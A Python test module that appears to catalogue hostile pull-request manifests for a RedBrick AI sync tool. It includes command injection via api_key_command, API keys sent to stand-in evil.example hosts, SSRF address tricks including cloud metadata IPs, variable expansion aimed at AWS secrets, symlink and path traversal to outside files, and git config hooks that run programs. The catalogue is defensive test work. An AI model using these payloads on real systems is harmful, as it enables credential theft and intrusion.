"""What a stranger's pull request may bring along, each kind of it by name."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

from tests.service.serving import ORG, PROJECT
from tests.trust.site import CANARIES, KEY, Site

Attack = Callable[[Site], None]
IDS = f"org_id: {ORG}, project_id: {PROJECT}"
PICTURES = "datapoints: [{glob: images/*.png}]\n"


def redbrick(url: str, more: str = "") -> str:
    """A manifest that names a service."""
    quoted = json.dumps(url)
    return f"backend: {{kind: redbrick, url: {quoted}, {IDS}{more}}}\n{PICTURES}"


def command(site: Site) -> None:
    words = json.dumps(["sh", "-c", f"touch {site.marker}; echo $HARMLESS"])
    site.manifest(redbrick("https://evil.example", f", api_key_command: {words}"))


def command_of_the_vendors_service(site: Site) -> None:
    words = json.dumps(["touch", str(site.marker)])
    backend = f"{{kind: redbrick, {IDS}, api_key_command: {words}}}"
    site.manifest(f"backend: {backend}\n{PICTURES}")
    site.environment["RBSYNC_API_KEY"] = ""


def elsewhere(url: str) -> Attack:
    def attack(site: Site) -> None:
        ports = {"TLS": str(site.ears.secure), "TCP": str(site.ears.plain)}
        text = url
        for word, port in ports.items():
            text = text.replace(word, port)
        site.manifest(redbrick(text))

    return attack


URLS = (
    "https://evil.example:TLS",
    "https://api.redbrickai.com.evil.example:TLS",
    "https://api.redbrickai.com:TLS",
    "http://api.redbrickai.com:TCP",
    "http://evil.example:TCP",
    "http://127.0.0.1.evil.example:TCP",
    "http://localhost.evil.example:TCP",
    "http://localhost.:TCP",
    "http://127.0.0.1@evil.example:TCP",
    "http://127.0.0.1:TCP@evil.example:TCP",
    "http://localhost:x@evil.example:TCP",
    "http://127.0.0.1\\@evil.example:TCP",
    "http://evil.example:TCP\\@127.0.0.1",
    "http://evil.example:TCP#@127.0.0.1",
    "http://evil.example:TCP?@127.0.0.1",
    "http://127.1:TCP",
    "http://2130706433:TCP",
    "http://0x7f.1:TCP",
    "http://0177.0.0.1:TCP",
    "http://127.0.0.2:TCP",
    "http://0.0.0.0:TCP",
    "http://[::ffff:127.0.0.1]:TCP",
    "http://[::]:TCP",
    "https://127.0.0.1%2eevil.example:TLS",
    "https://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54.evil.example:TLS",
    "https://\u0430pi.redbrickai.com:TLS",
    "https://xn--pi-7lc.redbrickai.com:TLS",
    "//evil.example:TLS",
    "evil.example:TLS",
    "https://evil.example:TLS/https://api.redbrickai.com",
    "https://api.redbrickai.com\t.evil.example:TLS",
    "https://${HARMLESS}.evil.example:TLS",
    "https://${AWS_SECRET_ACCESS_KEY:-x}.evil.example:TLS",
)


def variables(text: str) -> Attack:
    return lambda site: site.manifest(text)


def _item(item: str) -> str:
    return f"datapoints: [{{name: a, storage: public, items: ['{item}']}}]\n"


VARIABLES = {
    "the name": "datapoints: [{name: '${RBSYNC_API_KEY}', items: [images/a.png]}]\n",
    "a name with a default": "datapoints: [{name: '${HARMLESS:-a}', items: [images/a.png]}]\n",
    "metadata": "defaults: {metadata: {x: '${AWS_SECRET_ACCESS_KEY}'}}\n" + PICTURES,
    "the address of an item": _item("https://example.org/${HARMLESS}.png"),
    "the host of an item": _item("https://${HARMLESS}.evil.example/a.png"),
    "the user of an item": _item("https://${HARMLESS}@evil.example/a.png"),
    "the organization": f"backend: {{kind: redbrick, org_id: '${{HARMLESS}}', project_id: "
    f"{PROJECT}}}\n{PICTURES}",
    "the project's folder": "backend: {kind: local, path: 'x/${HARMLESS}'}\n" + PICTURES,
    "the taxonomy": "project: {type: IMAGE_BBOX, taxonomy: ['${HARMLESS}']}\n" + PICTURES,
    "a value of the wrong type": "policy: {prune: '${HARMLESS}'}\n" + PICTURES,
    "a storage": "defaults: {storage: '${HARMLESS}'}\n" + PICTURES,
    "a root": "roots: ['${HOME}']\n" + PICTURES,
    "a glob": "datapoints: [{glob: '${HARMLESS}/*.png'}]\n",
    "inline labels": "datapoints: [{name: a, items: [images/a.png], "
    "labels: [{category: [['object', '${HARMLESS}']]}]}]\n",
}


def twin(site: Site) -> None:
    """A variable that may be read, with the value of one that may not."""
    site.environment["RBSYNC_VAR_NAME"] = KEY
    site.environment["RB_PROJECT_ID"] = CANARIES["AWS_SECRET_ACCESS_KEY"]
    site.manifest(
        "datapoints: [{name: '${RBSYNC_VAR_NAME}', items: [images/a.png]},"
        " {name: '${RB_PROJECT_ID}', items: [images/a.png]}]\n"
    )


def files(site: Site) -> None:
    outside = site.outside
    site.link("images/link.png", str(outside / "secret.png"))
    site.link("images/up.png", "../../../outside/secret.png")
    site.link("linked", str(outside / "folder"))
    site.manifest(
        "datapoints:\n"
        "  - glob: images/*.png\n"
        "  - glob: linked/*.png\n"
        f"  - {{name: absolute, items: ['{outside}/secret.png']}}\n"
        "  - {name: up, items: [../../outside/secret.png]}\n"
        "  - {name: winding, items: [images/../../../outside/secret.png]}\n"
        "  - {name: linked, items: [linked/b.png]}\n"
        "  - {name: git, items: [../.git/config]}\n"
    )


def roots(*given: str) -> Attack:
    def attack(site: Site) -> None:
        listed = json.dumps([one.replace("OUTSIDE", str(site.outside)) for one in given])
        site.link("way", str(site.outside))
        site.manifest(
            f"roots: {listed}\n"
            "datapoints:\n"
            f"  - {{name: a, items: ['{site.outside}/secret.png']}}\n"
            f"  - {{name: labelled, items: [images/a.png], labels: '{site.outside}/secret.json'}}\n"
            "  - glob: way/*.png\n"
            "    allow_empty: true\n"
        )

    return attack


def readers(site: Site) -> None:
    """Every kind of file that a manifest names, as a link to something else's text."""
    for name in ("labels.json", "map.json", "list.json", "coco.json", "classes.json"):
        site.link(name, str(site.outside / "secret.json"))
    site.link("list.csv", str(site.outside / "secret.csv"))
    site.link("list.jsonl", str(site.outside / "secret.txt"))
    site.link("taxonomy.json", str(site.outside / "secret.txt"))
    site.link("images/.rbsyncignore", str(site.outside / "secret.txt"))
    site.link("masks/a.png", str(site.outside / "secret.png"))
    site.link("export/class_map.json", str(site.outside / "secret.json"))
    site.link("export/datapoint_map.json", str(site.outside / "secret.json"))
    site.manifest(
        "project: {type: IMAGE_SEGMENTATION, taxonomy: taxonomy.json}\n"
        "datapoints:\n"
        "  - {name: a, items: [images/a.png], labels: labels.json}\n"
        "  - {name: b, items: [images/a.png], labels: ../.git/config}\n"
        "  - items_list: list.json\n"
        "  - items_list: list.csv\n"
        "  - items_list: list.jsonl\n"
        "  - items_list: ../.git/config.json\n"
        "  - glob: images/*.png\n"
        "masks:\n"
        "  - {glob: masks/*.png, image: 'images/{stem}.png', class_map: classes.json}\n"
        "  - folder: export\n"
        "    images: images\n"
        "  - coco: coco.json\n"
        "    images: images\n"
    )


def paths_in_files(site: Site) -> None:
    """Paths that lead out, in the files that a manifest names."""
    outside = str(site.outside / "secret.png")
    site.project.write("list.json", [{"name": "x", "items": [outside]}])
    site.project.write("list.csv", f"name,item\ny,{outside}\nz,../../outside/secret.png\n")
    site.project.write("list.jsonl", json.dumps({"name": "w", "items": ["../../.git/config"]}))
    site.project.write("export/class_map.json", {"car": [255, 0, 0]})
    site.project.write("export/datapoint_map.json", {"a.png": outside})
    site.project.write("export/a.png", (site.project.folder / "images/a.png").read_bytes())
    coco = {
        "images": [{"id": 1, "file_name": outside, "width": 1, "height": 1}],
        "annotations": [],
        "categories": [{"id": 1, "name": "car"}],
    }
    site.project.write("coco.json", coco)
    site.manifest(
        "datapoints: [{items_list: list.json}, {items_list: list.csv}, {items_list: list.jsonl}]\n"
        "masks: [{folder: export, images: images}, {coco: coco.json, images: images}]\n"
    )


def project_at(path: str) -> Attack:
    def attack(site: Site) -> None:
        site.link("way", str(site.outside))
        text = json.dumps(path.replace("OUTSIDE", str(site.outside)))
        site.manifest(f"backend: {{kind: local, path: {text}}}\n{PICTURES}")

    return attack


def own_folder(site: Site) -> None:
    site.link(".rbsync", str(site.outside))


def own_files(site: Site) -> None:
    for name in ("state.db", "cache.db", "errored.jsonl", "report.json"):
        site.link(f".rbsync/{name}", str(site.outside / f"written-{name}"))


def own_project(site: Site) -> None:
    site.link(".rbsync/project", str(site.outside))


def files_of_the_history(site: Site) -> None:
    for name in ("history.db", "history.db-journal", "history.db-wal"):
        site.link(f".rbsync/history/{name}", str(site.outside / f"written-{name}"))


def files_of_another_project(site: Site) -> None:
    """A project that the manifest names, whose files are links."""
    for name in ("project.db", "blobs", "incoming"):
        site.link(f"own/{name}", str(site.outside / f"written-{name}"))
    site.manifest(f"backend: {{kind: local, path: own}}\n{PICTURES}")


def files_of_the_project(site: Site) -> None:
    (site.project.folder / ".rbsync/project").mkdir(parents=True)
    for name in ("project.db", "blobs", "incoming"):
        site.link(f".rbsync/project/{name}", str(site.outside))


def manifest_link(target: str) -> Attack:
    def attack(site: Site) -> None:
        (site.project.folder / "rbsync.yaml").unlink()
        site.link("rbsync.yaml", target.replace("OUTSIDE", str(site.outside)))

    return attack


def bare_repository(site: Site) -> None:
    """The files of a bare repository beside the manifest, with a program in its settings."""
    project = site.project
    project.write("HEAD", "ref: refs/heads/main\n")
    project.write("objects/info/x", "")
    project.write("refs/heads/x", "")
    run = f"touch {site.marker}"
    settings = ("fsmonitor", "sshCommand", "pager", "editor")
    lines = "".join(f'\t{one} = "{run}"\n' for one in settings)
    project.write("config", f"[core]\n\tbare = false\n\tworktree = .\n{lines}")
    site.manifest(PICTURES)


def pairs_and_signs(site: Site) -> None:
    """Names that are to become others, and files by which others are known to be all there."""
    outside = str(site.outside)
    site.link("images/SUMS", f"{outside}/secret.txt")
    site.project.write("images/LIST", f"{outside}/secret.png\n../../../outside/secret.png\n")
    signs = (
        f"{{marker: '{outside}/secret.txt'}}",
        "{marker: '../../../outside/{stem}.png'}",
        f"{{listed_in: '{outside}/secret.txt'}}",
        "{listed_in: ../../../outside/secret.txt}",
        "{listed_in: ../../.git/config}",
        "{listed_in: SUMS}",
        "{listed_in: LIST}",
        "{marker: '${HARMLESS}'}",
    )
    sources = "".join(
        f"  - {{glob: images/*.png, name: '{at}', complete_when: {sign}}}\n"
        for at, sign in enumerate(signs)
    )
    site.manifest(
        f"datapoints:\n{sources}"
        "moved:\n"
        "  - {from: '{x}.png', to: '../../outside/{x}.png'}\n"
        f"  - {{from: 'images/{{x}}', to: '{outside}/{{x}}'}}\n"
        "  - {from: '${AWS_SECRET_ACCESS_KEY}/{x}', to: '{x}'}\n"
    )


def inner_items(site: Site) -> None:
    hosts = (
        "127.0.0.1",
        "localhost",
        "169.254.169.254",
        "2852039166",
        "0xa9.0xfe.0xa9.0xfe",
        "[::ffff:169.254.169.254]",
        "10.0.0.1",
        "evil.example",
    )
    points = (
        f"  - {{name: '{host}', storage: public, items: ['http://{host}:{site.ears.plain}/a.png']}}\n"
        for host in hosts
    )
    site.manifest("datapoints:\n" + "".join(points))


ATTACKS: Mapping[str, Attack] = {
    "a command": command,
    "a command, of the vendor's service": command_of_the_vendors_service,
    **{f"a key to {url}": elsewhere(url) for url in URLS},
    **{f"a variable in {where}": variables(text) for where, text in VARIABLES.items()},
    "a variable with a secret's value": twin,
    "files outside": files,
    "the root /": roots("/"),
    "a root outside": roots("../../outside"),
    "an absolute root": roots("OUTSIDE"),
    "a root that is a link": roots("way"),
    "roots that wind": roots("images/../../../outside", "//", "/..", "~", "$HOME"),
    "links in place of what is read": readers,
    "paths in what is read": paths_in_files,
    "a project above": project_at("../../outside/project"),
    "a project at an absolute path": project_at("OUTSIDE/project"),
    "a project behind a link": project_at("way/project"),
    "a project that is a link": project_at("way"),
    "a project in git's folder": project_at("../.git/project"),
    "a linked .rbsync": own_folder,
    "linked files in .rbsync": own_files,
    "a linked .rbsync/project": own_project,
    "linked files of the project": files_of_the_project,
    "linked files of the history": files_of_the_history,
    "linked files of a project that is named": files_of_another_project,
    "a manifest that is a link": manifest_link("OUTSIDE/secret.txt"),
    "a manifest that is a relative link": manifest_link("../../outside/secret.txt"),
    "a manifest that is git's": manifest_link("../.git/config"),
    "a manifest that is a link to a link": manifest_link("images/../../../outside/secret.txt"),
    "pairs of names and signs of completeness": pairs_and_signs,
    "items at inner addresses": inner_items,
    "a bare repository beside the manifest": bare_repository,
}
